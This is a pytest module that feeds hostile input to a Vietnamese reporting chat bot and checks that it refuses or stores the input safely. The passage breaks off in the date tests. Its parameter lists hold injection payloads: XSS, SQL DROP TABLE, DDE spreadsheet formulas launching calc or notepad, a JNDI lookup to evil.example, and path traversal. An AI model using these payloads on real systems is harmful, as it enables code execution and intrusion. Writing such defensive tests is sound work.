"""Hostile and bad input through the real service: a clear Vietnamese message, and nothing wrong stored.

Every question type (text, long text, phone, count, date, choice, yes/no, photo) gets a corpus of inputs a
careless or hostile person could send: foreign and malformed phones, 10,000 characters, emoji, invisible and
right-to-left characters, HTML and markdown the platforms would render, SQL, spreadsheet formulas, control
characters, impossible dates, odd digits, broken and oversized images. A refused input gets the texts constant
that says what to send instead, followed by the same question, and the unit's answers stay as they were; an
accepted one is stored as exactly the cleaned literal text. Then the accepted hostile strings go through the
consolidated workbook and the units' Word documents, and must come out as inert text.

The corpus runs on SQLite: one database is filled once per module with one contact of a different unit waiting
at each kind of question, and each test runs on its own copy of that file, so the tests are independent and
the module stays fast. What depends on the database itself (display names) runs on both databases.
"""

from __future__ import annotations

import asyncio
import io
import itertools
import random
import re
import shutil
import struct
import unicodedata
import zipfile
import zlib
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
import sqlalchemy as sa
from PIL import Image

from bot.service import Inbound, Service
from conversations import texts
from conversations.form import load_form
from exports.data import load_export_data
from exports.document import build_unit_document
from exports.workbook import build_workbook
from storage import queries as q
from storage.db import Database, open_database
from storage.models import Answer, Report, Unit
from tests.fake_telegram import FakeTelegram
from tests.test_service import NOW, Clock, setup
from tests.test_telegram import USER, running
from tests.test_telegram import say as telegram_say

FORM = load_form()
_ids = itertools.count(1)

# Letters that, among Latin scripts, only Vietnamese uses: a reply with none of them was not written for the person.
VIETNAMESE = re.compile("[ăâđêôơưạảặẳẵắằậẩẫấầẹẻẽệểễếềịỉĩọỏộổỗốồợởỡớờụủũựửữứừỵỷỹ]", re.IGNORECASE)


def is_vietnamese(reply: str) -> bool:
    return bool(VIETNAMESE.search(reply))


# --- Where each kind of question is asked -----------------------------------------------------------------

REPORTER = "Nguyễn Thị Lan, 0912 345 678"
LEADER = "Trần Văn Hùng, Phó Giám đốc, 0913 456 789"
STAFF = "Lê Thị Mai, Chuyên viên, 0987 654 321"
TO_PHOTO = [REPORTER, LEADER, STAFF, "Nữ", "9"]
TO_PROCEDURES = [*TO_PHOTO, "bỏ qua", "xong", "không có", "Võ Thị Hoa, Văn thư, 0934 222 333", "xong"]
TO_PICKUP = [*TO_PROCEDURES, *["0"] * 7]
TO_NOTES = [*TO_PICKUP, "có", "Tầng 1, số 2 Nguyễn Văn Trị"]
TO_PLAN_START = [*TO_NOTES, "bỏ qua", "Rà soát TTHC", "Rà soát 125 TTHC"]
TO_PLAN_END = [*TO_PLAN_START, "01/04/2017"]


@dataclass(frozen=True)
class At:
    """A contact of `unit` who answered `script` and is now asked `key`."""

    unit: str
    key: str  # the answer key the question stores, e.g. "leader[1].position"
    script: tuple[str, ...]

    @property
    def user(self) -> str:
        return f"at-{self.unit.lower()}"

    @property
    def prompt(self) -> str:
        section, _, question = self.key.partition(".")
        return FORM.section(section.partition("[")[0]).question(question).prompt


NAME = At("STP", "reporter.name", ())
PHONE = At("SKHDT", "reporter.phone", ("Nguyễn Thị Lan",))
TEXT = At("STC", "leader[1].position", (REPORTER, "Trần Văn Hùng"))
GENDER = At("SCT", "main_staff[1].gender", (REPORTER, LEADER, STAFF))
SIZE = At("SNNPTNT", "main_staff[1].shirt_size", (REPORTER, LEADER, STAFF, "Nữ"))
PHOTO = At("SGTVT", "main_staff[1].photo", tuple(TO_PHOTO))
COUNT = At("SXD", "procedures.tthc_total", tuple(TO_PROCEDURES))
YES_NO = At("STNMT", "pickup.agree", tuple(TO_PICKUP))
LONG_TEXT = At("STTTT", "pickup.notes", tuple(TO_NOTES))
DATE = At("SLDTBXH", "plan[1].start", tuple(TO_PLAN_START))
END_DATE = At("SKHCN", "plan[1].end", tuple(TO_PLAN_END))
POSITIONS = [NAME, PHONE, TEXT, GENDER, SIZE, PHOTO, COUNT, YES_NO, LONG_TEXT, DATE, END_DATE]


async def invite(db: Database, unit: str) -> str:
    async with db.transaction() as s:
        unit_id = (await q.get_unit_by_code(s, unit)).id
        created = await q.create_invite(s, unit_id=unit_id, role="unit", expires_at=NOW + timedelta(days=7),
                                        max_uses=5, now=NOW)
        return created.code


async def answers_of(db: Database, unit: str) -> dict[str, Any]:
    """The unit's answers (one query: it runs twice in each of hundreds of tests)."""
    async with db.transaction() as s:
        rows = await s.execute(sa.select(Answer.key, Answer.value).join(Report, Answer.report_id == Report.id)
                               .join(Unit, Report.unit_id == Unit.id).where(Unit.code == unit))
        return dict(rows.all())


async def say(service: Service, user: str, text: str | None = None, **kw) -> str:
    """One event from `user`; the text of every reply, joined."""
    inbound = Inbound(channel="test", user_id=user, chat_id=user, event_id=f"h{next(_ids)}", text=text, **kw)
    replies = await service.handle(inbound)
    assert replies is not None
    service.sent(inbound)
    return "\n".join(r.text for r in replies)


async def _build_template(folder: Path) -> None:
    db = await open_database(f"sqlite:///{folder / 'hcc.db'}")
    try:
        await setup(db)
        service = Service(db, FORM, folder / "photos", Clock(NOW))
        for at in POSITIONS:
            reply = await say(service, at.user, await invite(db, at.unit))
            for line in at.script:
                reply = await say(service, at.user, line)
            assert at.prompt in reply, f"{at.key}: the script did not end at the question:\n{reply}"
    finally:
        await db.dispose()


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    """A database file with one contact waiting at each position (built once: copying it is cheaper)."""
    folder = tmp_path_factory.mktemp("hostile-template")
    asyncio.run(_build_template(folder))
    return folder / "hcc.db"


@dataclass
class Bot:
    db: Database
    service: Service

    async def send(self, at: At, **inbound) -> tuple[str, dict, dict]:
        """Send one thing as the contact at `at`: the reply, and the unit's answers before and after."""
        before = await answers_of(self.db, at.unit)
        reply = await say(self.service, at.user, **inbound)
        return reply, before, await answers_of(self.db, at.unit)


@pytest.fixture
async def bot(template: Path, tmp_path: Path):
    shutil.copy(template, tmp_path / "hcc.db")
    db = await open_database(f"sqlite:///{tmp_path / 'hcc.db'}", migrate=False)  # the template is migrated
    try:
        yield Bot(db, Service(db, FORM, tmp_path / "photos", Clock(NOW)))
    finally:
        await db.dispose()


def assert_refused(expected: str | re.Pattern, at: At, reply: str, before: dict, after: dict) -> None:
    """The message says what was wrong and what to send, the same question follows, nothing changed."""
    said = reply.split("\n\n")[0]
    if isinstance(expected, re.Pattern):
        assert expected.fullmatch(said), said
    else:
        assert expected == said
    assert at.prompt in reply
    assert is_vietnamese(reply)
    assert before == after


def assert_stored(expected: dict[str, Any], reply: str, before: dict, after: dict) -> None:
    """Exactly the expected answers were added or changed, nothing else."""
    assert {**before, **expected} == after
    assert is_vietnamese(reply)


# --- Text (one line, at most 300 characters) ----------------------------------------------------------------

# (what the person sends, what is stored): HTML, markdown, SQL and formulas stay literal text; invisible,
# bidi and control characters go, other whitespace becomes one space; Unicode is stored composed (NFC).
ZALGO = "Z\u0334\u0321a\u0337l\u0338g\u0335o"
TEXT_ACCEPTED = [
    pytest.param("<b>Giám đốc</b>", "<b>Giám đốc</b>", id="html-bold"),
    pytest.param('<a href="http://evil.example/x">Phó Giám đốc</a>', '<a href="http://evil.example/x">Phó Giám đốc</a>',
                 id="html-link"),
    pytest.param("<script>alert('x')</script>", "<script>alert('x')</script>", id="html-script"),
    pytest.param("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>", id="html-img-onerror"),
    pytest.param("&lt;b&gt;Giám đốc&amp;", "&lt;b&gt;Giám đốc&amp;", id="html-entities"),
    pytest.param("*Phó Giám đốc*", "*Phó Giám đốc*", id="markdown-bold"),
    pytest.param("_Chuyên viên_", "_Chuyên viên_", id="markdown-italic"),
    pytest.param("[bấm vào đây](http://evil.example)", "[bấm vào đây](http://evil.example)", id="markdown-link"),
    pytest.param("`Trưởng phòng`", "`Trưởng phòng`", id="markdown-code"),
    pytest.param("~~Giám đốc~~ ||bí mật||", "~~Giám đốc~~ ||bí mật||", id="markdown-strike-spoiler"),
    pytest.param("# Giám đốc", "# Giám đốc", id="markdown-heading"),
    pytest.param("'; DROP TABLE answer; --", "'; DROP TABLE answer; --", id="sql-drop"),
    pytest.param("Robert'); DROP TABLE contact;--", "Robert'); DROP TABLE contact;--", id="sql-bobby"),
    pytest.param("1' OR '1'='1", "1' OR '1'='1", id="sql-or"),
    pytest.param('" OR ""="', '" OR ""="', id="sql-double-quote"),
    pytest.param("=1+2", "=1+2", id="formula-equals"),
    pytest.param("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", id="formula-dde-plus"),
    pytest.param("@SUM(A1:A2)", "@SUM(A1:A2)", id="formula-at"),
    pytest.param("-2+3", "-2+3", id="formula-minus"),
    pytest.param("\t=1", "=1", id="formula-after-tab"),
    pytest.param("\r=1+2", "=1+2", id="formula-after-cr"),
    pytest.param('=HYPERLINK("http://evil.example","bấm")', '=HYPERLINK("http://evil.example","bấm")',
                 id="formula-hyperlink"),
    pytest.param("=cmd|' /C notepad'!'A1'", "=cmd|' /C notepad'!'A1'", id="formula-dde-equals"),
    pytest.param("${jndi:ldap://evil.example/a}", "${jndi:ldap://evil.example/a}", id="template-jndi"),
    pytest.param("{{7*7}} {unit} {0} %s %(name)s", "{{7*7}} {unit} {0} %s %(name)s", id="template-braces-percent"),
    pytest.param("../../etc/passwd", "../../etc/passwd", id="path-traversal"),
    pytest.param("null", "null", id="word-null"),
    pytest.param("👩‍💻 Chuyên viên", "👩💻 Chuyên viên", id="emoji-zwj-sequence"),
    pytest.param("👨‍👩‍👧 Phó phòng", "👨👩👧 Phó phòng", id="emoji-family-zwj"),
    pytest.param("🇻🇳 Giám đốc 👍🏽", "🇻🇳 Giám đốc 👍🏽", id="emoji-flag-skin-tone"),
    pytest.param("Giám\u200bđốc", "Giámđốc", id="zero-width-space"),
    pytest.param("\ufeffGiám\u2060 đốc\u00ad", "Giám đốc", id="bom-word-joiner-soft-hyphen"),
    pytest.param("\u202eGiám đốc\u202c", "Giám đốc", id="rtl-override"),
    pytest.param("\u2067Giám đốc\u2069\u200f", "Giám đốc", id="rtl-isolate-and-mark"),
    pytest.param("مدير المكتب", "مدير المكتب", id="arabic-letters"),
    pytest.param("מנהל", "מנהל", id="hebrew-letters"),
    pytest.param("\x00Giám đốc", "Giám đốc", id="control-nul"),
    pytest.param("\x1b[31mGiám đốc\x1b[0m", "[31mGiám đốc[0m", id="control-ansi-escape"),
    pytest.param("Giám\x7f đốc\x08\x08", "Giám đốc", id="control-del-backspace"),
    pytest.param("Phó\u2028Giám đốc", "Phó Giám đốc", id="line-separator"),
    pytest.param("Phó\x85Giám\nđốc", "Phó Giám đốc", id="next-line-and-newline"),
    pytest.param("Phó\tGiám\u00a0đốc\u3000Sở", "Phó Giám đốc Sở", id="tab-nbsp-ideographic-space"),
    pytest.param("Gia\u0301m đo\u0302\u0301c", "Giám đốc", id="decomposed-diacritics"),
    pytest.param(ZALGO, unicodedata.normalize("NFC", ZALGO), id="zalgo-combining"),
    pytest.param("A" * 300, "A" * 300, id="exactly-300-chars"),
]

TEXT_REFUSED = [
    pytest.param("A" * 10_000, texts.TEXT_TOO_LONG.format(length=10_000, max_len=300), id="10000-chars"),
    pytest.param("A" * 301, texts.TEXT_TOO_LONG.format(length=301, max_len=300), id="301-chars"),
    pytest.param("a " * 5_000, texts.TEXT_TOO_LONG.format(length=9_999, max_len=300), id="10000-chars-with-spaces"),
    pytest.param("😀" * 301, texts.TEXT_TOO_LONG.format(length=301, max_len=300), id="301-emoji"),
    pytest.param("\u200b\u200c\u200d", texts.TEXT_NOT_PRINTABLE, id="only-zero-width"),
    pytest.param("\x00\x01\x02", texts.TEXT_NOT_PRINTABLE, id="only-control"),
    pytest.param("\u202e\u202d\u2066", texts.TEXT_NOT_PRINTABLE, id="only-bidi"),
    pytest.param("\ufeff\u00ad", texts.TEXT_NOT_PRINTABLE, id="only-bom-soft-hyphen"),
    pytest.param(" \u200b ", texts.TEXT_NOT_PRINTABLE, id="spaces-around-zero-width"),
    # A lone surrogate (a JSON "\ud800" escape) cannot be stored as UTF-8: it is not a character at all.
    pytest.param("\ud800", texts.TEXT_NOT_PRINTABLE, id="lone-surrogate"),
]


@pytest.mark.parametrize(("sent", "stored"), TEXT_ACCEPTED)
async def test_text__hostile_but_readable__stored_as_the_literal_cleaned_text(bot, sent, stored):
    reply, before, after = await bot.send(TEXT, text=sent)
    assert_stored({TEXT.key: stored}, reply, before, after)


@pytest.mark.parametrize(("sent", "expected"), TEXT_REFUSED)
async def test_text__too_long_or_unreadable__refused_with_what_to_send_and_nothing_stored(bot, sent, expected):
    reply, before, after = await bot.send(TEXT, text=sent)
    assert_refused(expected, TEXT, reply, before, after)


async def test_text__noncharacter_uffff__dropped_like_other_invisible_characters(bot):
    """U+FFFE/U+FFFF are not characters; XML (xlsx, docx) cannot carry them, so they must not be stored."""
    reply, before, after = await bot.send(TEXT, text="Giám đốc\uffff\ufffe")
    assert_stored({TEXT.key: "Giám đốc"}, reply, before, after)


# --- The first question of a section that takes several answers in one message ------------------------------

NAME_ACCEPTED = [
    pytest.param("@Lan", {"reporter.name": "@Lan"}, id="at-as-name"),
    pytest.param("+Lan -Lan", {"reporter.name": "+Lan -Lan"}, id="plus-minus-name"),
    pytest.param("<b>Lan</b>", {"reporter.name": "<b>Lan</b>"}, id="html-name"),
    pytest.param("[Lan](http://evil.example)", {"reporter.name": "[Lan](http://evil.example)"},
                 id="markdown-link-name"),
    pytest.param("Lan 👩‍💻", {"reporter.name": "Lan 👩💻"}, id="emoji-name"),
    pytest.param("<b>Lan</b>\n+84 912 345 678", {"reporter.name": "<b>Lan</b>", "reporter.phone": "+84912345678"},
                 id="html-name-and-phone-on-two-lines"),
]

# Several answers in one message where one part does not parse: the others are kept, that one is asked again.
NAME_PARTLY = [
    pytest.param("=1+2, 0912 345 678", {"reporter.phone": "+84912345678"},
                 texts.COMPACT_PART_ERROR.format(n=1, label="Người điền báo cáo", error=texts.NAME_HAS_DIGITS),
                 id="formula-name-and-phone"),
    pytest.param("Lan, +1 202 555 0123", {"reporter.name": "Lan"},
                 texts.COMPACT_PART_ERROR.format(n=2, label="Số điện thoại người điền", error=texts.PHONE_FOREIGN),
                 id="comma-foreign-phone"),
    pytest.param("Lan; +1 202 555 0123", {"reporter.name": "Lan"},
                 texts.COMPACT_PART_ERROR.format(n=2, label="Số điện thoại người điền", error=texts.PHONE_FOREIGN),
                 id="semicolon-foreign-phone"),
]

NAME_REFUSED = [
    pytest.param("'; DROP TABLE answer; --",
                 texts.COMPACT_COUNT.format(got=3, expected=2, labels="Người điền báo cáo, Số điện thoại người điền"),
                 id="sql-splits-into-three-parts"),
    pytest.param("=1+2", texts.NAME_HAS_DIGITS, id="formula-as-name"),
    pytest.param("=1+2\n=3+4",
                 texts.COMPACT_PART_ERROR.format(n=1, label="Người điền báo cáo", error=texts.NAME_HAS_DIGITS),
                 id="formula-lines"),
    pytest.param("A" * 10_000, texts.TEXT_TOO_LONG.format(length=10_000, max_len=300), id="10000-chars"),
]


@pytest.mark.parametrize(("sent", "stored"), NAME_ACCEPTED)
async def test_name__hostile_but_readable__stored_literally(bot, sent, stored):
    reply, before, after = await bot.send(NAME, text=sent)
    assert_stored(stored, reply, before, after)


@pytest.mark.parametrize(("sent", "stored", "error"), NAME_PARTLY)
async def test_name__one_part_does_not_parse__the_others_kept_and_that_one_asked_again(bot, sent, stored, error):
    reply, before, after = await bot.send(NAME, text=sent)
    assert_stored(stored, reply, before, after)
    assert error in reply.split("\n\n")


@pytest.mark.parametrize(("sent", "expected"), NAME_REFUSED)
async def test_name__parts_that_do_not_parse__refused_and_nothing_stored(bot, sent, expected):
    reply, before, after = await bot.send(NAME, text=sent)
    assert_refused(expected, NAME, reply, before, after)


# --- Long text (several lines, at most 3,000 characters) -------------------------------------------------------

LONG_TEXT_ACCEPTED = [
    pytest.param("=1+2\n@SUM(A1)\n-2+3\n+cmd", "=1+2\n@SUM(A1)\n-2+3\n+cmd", id="formulas-on-lines"),
    pytest.param('<b>Cổng sau</b>\n<a href="http://evil.example">bấm</a>',
                 '<b>Cổng sau</b>\n<a href="http://evil.example">bấm</a>', id="html-lines"),
    pytest.param("**Cổng sau**\n[bấm](http://evil.example)\n`code`", "**Cổng sau**\n[bấm](http://evil.example)\n`code`",
                 id="markdown-lines"),
    pytest.param("'; DROP TABLE answer; --\nRobert'); DROP TABLE contact;--",
                 "'; DROP TABLE answer; --\nRobert'); DROP TABLE contact;--", id="sql-lines"),
    pytest.param("Dòng 1\r\nDòng 2", "Dòng 1\nDòng 2", id="crlf"),
    pytest.param("Dòng 1\u2028Dòng 2\u2029Dòng 3", "Dòng 1\nDòng 2\nDòng 3", id="unicode-line-separators"),
    pytest.param("Dòng 1\x0bDòng 2\x0cDòng 3", "Dòng 1\nDòng 2\nDòng 3", id="vertical-tab-form-feed"),
    pytest.param("Dòng 1\n\n\n\n\nDòng 2", "Dòng 1\n\nDòng 2", id="many-blank-lines"),
    pytest.param("Dòng 1   \nDòng 2\t", "Dòng 1\nDòng 2", id="trailing-spaces"),
    pytest.param("\x1b[31mĐỏ\x1b[0m\nXanh", "[31mĐỏ[0m\nXanh", id="ansi-escape"),
    pytest.param("\x00\x01Cổng sau\x7f", "Cổng sau", id="control-characters"),
    pytest.param("👩‍💻\n🇻🇳", "👩💻\n🇻🇳", id="emoji-lines"),
    pytest.param("\u202eCổng sau\u202c\n\u200bGhi chú", "Cổng sau\nGhi chú", id="bidi-and-zero-width"),
    pytest.param("\tDòng thụt đầu", "Dòng thụt đầu", id="leading-tab"),
    pytest.param("A" * 3_000, "A" * 3_000, id="exactly-3000-chars"),
]

LONG_TEXT_REFUSED = [
    pytest.param("A" * 10_000, texts.TEXT_TOO_LONG.format(length=10_000, max_len=3_000), id="10000-chars"),
    pytest.param("A" * 3_001, texts.TEXT_TOO_LONG.format(length=3_001, max_len=3_000), id="3001-chars"),
    pytest.param("😀\n" * 2_000, texts.TEXT_TOO_LONG.format(length=3_999, max_len=3_000), id="2000-emoji-lines"),
    pytest.param("\u200b\n\u200b", texts.TEXT_NOT_PRINTABLE, id="zero-width-lines"),
    pytest.param("\x00", texts.TEXT_NOT_PRINTABLE, id="nul"),
]


@pytest.mark.parametrize(("sent", "stored"), LONG_TEXT_ACCEPTED)
async def test_long_text__hostile_but_readable__stored_as_the_literal_cleaned_text(bot, sent, stored):
    reply, before, after = await bot.send(LONG_TEXT, text=sent)
    assert_stored({LONG_TEXT.key: stored}, reply, before, after)


@pytest.mark.parametrize(("sent", "expected"), LONG_TEXT_REFUSED)
async def test_long_text__too_long_or_unreadable__refused_and_nothing_stored(bot, sent, expected):
    reply, before, after = await bot.send(LONG_TEXT, text=sent)
    assert_refused(expected, LONG_TEXT, reply, before, after)


# --- Phone ---------------------------------------------------------------------------------------------------

PHONE_REFUSED = [
    pytest.param("+1 202 555 0123", texts.PHONE_FOREIGN, id="us"),
    pytest.param("+1-202-555-0123", texts.PHONE_FOREIGN, id="us-dashes"),
    pytest.param("+86 138 0013 8000", texts.PHONE_FOREIGN, id="china"),
    pytest.param("0086 138 0013 8000", texts.PHONE_FOREIGN, id="china-00-prefix"),
    pytest.param("+44 7911 123456", texts.PHONE_FOREIGN, id="uk"),
    pytest.param("+33 6 12 34 56 78", texts.PHONE_FOREIGN, id="france"),
    pytest.param("+856 20 5555 1234", texts.PHONE_FOREIGN, id="laos"),
    pytest.param("+855 12 345 678", texts.PHONE_FOREIGN, id="cambodia"),
    pytest.param("+999 123456", texts.PHONE_INVALID, id="no-such-country"),
    pytest.param("0912abc678", texts.PHONE_INVALID, id="letters-inside"),
    pytest.param("O912 345 678", texts.PHONE_INVALID, id="letter-o-for-zero"),
    pytest.param("không chín một hai", texts.PHONE_INVALID, id="spelled-out"),
    pytest.param("091234567", texts.PHONE_INVALID, id="9-digits"),
    pytest.param("091234567890", texts.PHONE_INVALID, id="12-digits"),
    pytest.param("0912 345 67", texts.PHONE_INVALID, id="one-digit-short"),
    pytest.param("+84 912 345 678 9", texts.PHONE_INVALID, id="one-digit-long"),
    pytest.param("+8491234567", texts.PHONE_INVALID, id="84-too-short"),
    pytest.param("0201234567", texts.PHONE_INVALID, id="unused-prefix"),
    pytest.param("99999999999", texts.PHONE_INVALID, id="eleven-nines"),
    pytest.param("9" * 10_000, texts.PHONE_INVALID, id="10000-digits"),
    pytest.param("113", texts.PHONE_INVALID, id="emergency-number"),
    pytest.param("0251 3822 123", texts.PHONE_NOT_MOBILE, id="landline-dong-nai"),
    pytest.param("028 3822 1234", texts.PHONE_NOT_MOBILE, id="landline-hcmc"),
    pytest.param("024 3825 1234", texts.PHONE_NOT_MOBILE, id="landline-hanoi"),
    pytest.param("+84 28 3822 1234", texts.PHONE_NOT_MOBILE, id="landline-international"),
    pytest.param("1900 1234", texts.PHONE_NOT_MOBILE, id="hotline-1900"),
    pytest.param("1800 1234", texts.PHONE_NOT_MOBILE, id="toll-free-1800"),
    pytest.param("٠٩١٢٣٤٥٦٧٨", texts.PHONE_INVALID, id="arabic-indic-digits"),
    pytest.param("=0912345678", texts.PHONE_INVALID, id="formula-equals"),
    pytest.param("+cmd", texts.PHONE_INVALID, id="formula-plus"),
    pytest.param("@SUM(1)", texts.PHONE_INVALID, id="formula-at"),
    pytest.param("-2+3", texts.PHONE_INVALID, id="formula-minus"),
    pytest.param("'; DROP TABLE answer; --", texts.PHONE_INVALID, id="sql"),
    pytest.param("<b>0912345678</b>", texts.PHONE_INVALID, id="html"),
    pytest.param("[0912345678](tel:0912345678)", texts.PHONE_INVALID, id="markdown-link"),
    pytest.param("0912345678\n0913456789", texts.PHONE_INVALID, id="two-numbers"),
    pytest.param("0912 345 678 ext 12", texts.PHONE_INVALID, id="extension"),
    pytest.param("0912345678😀", texts.PHONE_INVALID, id="emoji"),
    pytest.param("1e10", texts.PHONE_INVALID, id="exponent"),
    pytest.param("\u200b", texts.EMPTY_ANSWER, id="only-zero-width"),
    pytest.param("\x00\x1b", texts.EMPTY_ANSWER, id="only-control"),
]

PHONE_ACCEPTED = [
    pytest.param("０９１２ ３４５ ６７８", "+84912345678", id="fullwidth-digits"),
    pytest.param("＋84 912 345 678", "+84912345678", id="fullwidth-plus"),
    pytest.param("0912\u200b345\u200b678", "+84912345678", id="zero-width-inside"),
    pytest.param("\u202a0912 345 678\u202c", "+84912345678", id="bidi-embedding"),
    pytest.param("(+84) 912-345-678", "+84912345678", id="brackets-dashes"),
    pytest.param("\t0912345678\x00", "+84912345678", id="tab-and-nul"),
    pytest.param("0162 345 6789", "+84323456789", id="legacy-11-digit"),
]


@pytest.mark.parametrize(("sent", "expected"), PHONE_REFUSED)
async def test_phone__malformed_foreign_or_landline__refused_with_the_reason_and_nothing_stored(bot, sent, expected):
    reply, before, after = await bot.send(PHONE, text=sent)
    assert_refused(expected, PHONE, reply, before, after)


@pytest.mark.parametrize(("sent", "stored"), PHONE_ACCEPTED)
async def test_phone__odd_spelling_of_a_valid_mobile__stored_as_e164(bot, sent, stored):
    reply, before, after = await bot.send(PHONE, text=sent)
    assert_stored({PHONE.key: stored}, reply, before, after)


# --- Counts ----------------------------------------------------------------------------------------------------

COUNT_REFUSED = [
    pytest.param("-1", texts.INTEGER_NEGATIVE, id="minus-one"),
    pytest.param("−1", texts.INTEGER_NEGATIVE, id="unicode-minus"),
    pytest.param("– 5", texts.INTEGER_NEGATIVE, id="en-dash"),
    pytest.param("-1.000", texts.INTEGER_NEGATIVE, id="negative-thousands"),
    pytest.param("1e3", texts.INTEGER_INVALID, id="exponent"),
    pytest.param("1E3", texts.INTEGER_INVALID, id="exponent-capital"),
    pytest.param("1.5", texts.INTEGER_INVALID, id="decimal-point"),
    pytest.param("12,5", texts.INTEGER_INVALID, id="decimal-comma"),
    pytest.param("١٢٣", texts.INTEGER_INVALID, id="arabic-indic-digits"),
    pytest.param("۱۲۳", texts.INTEGER_INVALID, id="persian-digits"),
    pytest.param("²", texts.INTEGER_INVALID, id="superscript"),
    pytest.param("0x1F", texts.INTEGER_INVALID, id="hex"),
    pytest.param("1_000", texts.INTEGER_INVALID, id="python-underscore"),
    pytest.param("NaN", texts.INTEGER_INVALID, id="nan"),
    pytest.param("inf", texts.INTEGER_INVALID, id="infinity"),
    pytest.param("=1+2", texts.INTEGER_INVALID, id="formula-equals"),
    pytest.param("+5", texts.INTEGER_INVALID, id="formula-plus"),
    pytest.param("@SUM(1,2)", texts.INTEGER_INVALID, id="formula-at"),
    pytest.param("-2+3", texts.INTEGER_INVALID, id="formula-minus"),
    pytest.param("\t=1", texts.INTEGER_INVALID, id="formula-after-tab"),
    pytest.param("'; DROP TABLE answer; --", texts.INTEGER_INVALID, id="sql"),
    pytest.param("<b>12</b>", texts.INTEGER_INVALID, id="html"),
    pytest.param("12 thủ tục", texts.INTEGER_INVALID, id="number-and-words"),
    pytest.param("12😀", texts.INTEGER_INVALID, id="emoji"),
    pytest.param("99999999999", texts.INTEGER_TOO_LARGE.format(value=99_999_999_999, maximum=100_000),
                 id="eleven-nines"),
    pytest.param("100001", texts.INTEGER_TOO_LARGE.format(value=100_001, maximum=100_000), id="just-over"),
    pytest.param("1.000.000", texts.INTEGER_TOO_LARGE.format(value=1_000_000, maximum=100_000), id="a-million"),
    # More digits than Python's int() converts (4,300): refused like any too-large number, not a crash.
    pytest.param("9" * 10_000, re.compile(re.escape(texts.INTEGER_TOO_LARGE).replace(r"\{value\}", "[0-9]+…?")
                                          .replace(r"\{maximum\}", "100000") + "|" + re.escape(texts.INTEGER_INVALID)),
                 id="10000-digits"),
    pytest.param("\u200b", texts.EMPTY_ANSWER, id="only-zero-width"),
]

COUNT_ACCEPTED = [
    pytest.param("1.200", 1_200, id="dot-thousands"),
    pytest.param("1 200", 1_200, id="space-thousands"),
    pytest.param("1,200", 1_200, id="comma-thousands"),
    pytest.param("00012", 12, id="leading-zeros"),
    pytest.param("100000", 100_000, id="the-maximum"),
    pytest.param("1\u200b2\u200b3", 123, id="zero-width-inside"),
    pytest.param("12\x00", 12, id="trailing-nul"),
    pytest.param("\t12 ", 12, id="tab-and-space"),
]


@pytest.mark.parametrize(("sent", "expected"), COUNT_REFUSED)
async def test_count__not_a_whole_non_negative_number__refused_and_nothing_stored(bot, sent, expected):
    reply, before, after = await bot.send(COUNT, text=sent)
    assert_refused(expected, COUNT, reply, before, after)


@pytest.mark.parametrize(("sent", "stored"), COUNT_ACCEPTED)
async def test_count__odd_spelling_of_a_number__stored_as_the_number(bot, sent, stored):
    reply, before, after = await bot.send(COUNT, text=sent)
    assert_stored({COUNT.key: stored}, reply, before, after)


# --- Dates -----------------------------------------------------------------------------------------------------

DATE_REFUSED = [
    pytest.param("31/02/2017", texts.DATE_NOT_EXIST.format(raw="31/02/2017", example="27/03/2017"), id="31-february"),
    pytest.param("29/02/2017", texts.DATE_NOT_EXIST.format(raw="29/02/2017", example="27/03/2017"), id="29-february-not-leap"),
    pytest.param("32/01/2017", texts.DATE_NOT_EXIST.format(raw="32/01/2017", example="27/03/2017"), id="day-32"),
    pytest.param("28/13/2017", texts.DATE_NOT_EXIST.format(raw="28/13/2017", example="27/03/2017"), id="month-13"),
    pytest.param("31/04", texts.DATE_NOT_EXIST.format(raw="31/04", example="27/03/2017"), id="31-april-no-year"),
    pytest.param("00/00/0000", texts.DATE_NOT_EXIST.format(raw="00/00/0000", example="27/03/2017"), id="all-zero"),
    pytest.param("0/0", texts.DATE_NOT_EXIST.format(raw="0/0", example="27/03/2017"), id="zero-zero"),
    pytest.param("0/0/0", texts.DATE_INVALID.format(example="27/03/2017"), id="zero-zero-zero"),
    pytest.param("2017-03-28", texts.DATE_INVALID.format(example="27/03/2017"), id="iso"),
    pytest.param("2017/03/28", texts.DATE_INVALID.format(example="27/03/2017"), id="year-first"),
    pytest.param("28/03/20177", texts.DATE_INVALID.format(example="27/03/2017"), id="five-digit-year"),
    pytest.param("28/3/217", texts.DATE_INVALID.format(example="27/03/2017"), id="three-digit-year"),
    pytest.param("28//03/2017", texts.DATE_INVALID.format(example="27/03/2017"), id="double-slash"),
    pytest.param("28/03/-2017", texts.DATE_INVALID.format(example="27/03/2017"), id="negative-year"),
    pytest.param("28 03 2017", texts.DATE_INVALID.format(example="27/03/2017"), id="spaces-only"),
    pytest.param("28/03/2017 16:30", texts.DATE_INVALID.format(example="27/03/2017"), id="with-time"),
    pytest.param("Mar 28 2017", texts.DATE_INVALID.format(example="27/03/2017"), id="english-month"),
    pytest.param("ngày mai", texts.DATE_INVALID.format(example="27/03/2017"), id="tomorrow-in-words"),
    pytest.param("١/٤/٢٠١٧", texts.DATE_INVALID.format(example="27/03/2017"), id="arabic-indic-digits"),
    pytest.param("０１/０４/２０１７", texts.DATE_INVALID.format(example="27/03/2017"), id="fullwidth-digits"),
    pytest.param("=TODAY()", texts.DATE_INVALID.format(example="27/03/2017"), id="formula"),
    pytest.param("-1", texts.DATE_INVALID.format(example="27/03/2017"), id="minus-one"),
    pytest.param("1e3", texts.DATE_INVALID.format(example="27/03/2017"), id="exponent"),
    pytest.param("99999999999", texts.DATE_INVALID.format(example="27/03/2017"), id="eleven-nines"),
    pytest.param("'; DROP TABLE answer; --", texts.DATE_INVALID.format(example="27/03/2017"), id="sql"),
    pytest.param("<b>28/03/2017</b>", texts.DATE_INVALID.format(example="27/03/2017"), id="html"),
    pytest.param("1/4/2017\n2/4/2017", texts.DATE_INVALID.format(example="27/03/2017"), id="two-dates"),
    pytest.param("28/03/2017😀", texts.DATE_INVALID.format(example="27/03/2017"), id="emoji"),
    pytest.param("9" * 10_000, texts.DATE_INVALID.format(example="27/03/2017"), id="10000-digits"),
    pytest.param("\u200b", texts.EMPTY_ANSWER, id="only-zero-width"),
]

DATE_ACCEPTED = [
    pytest.param("01/04/2017", "2017-04-01", id="full"),
    pytest.param("1/4", "2017-04-01", id="no-year"),
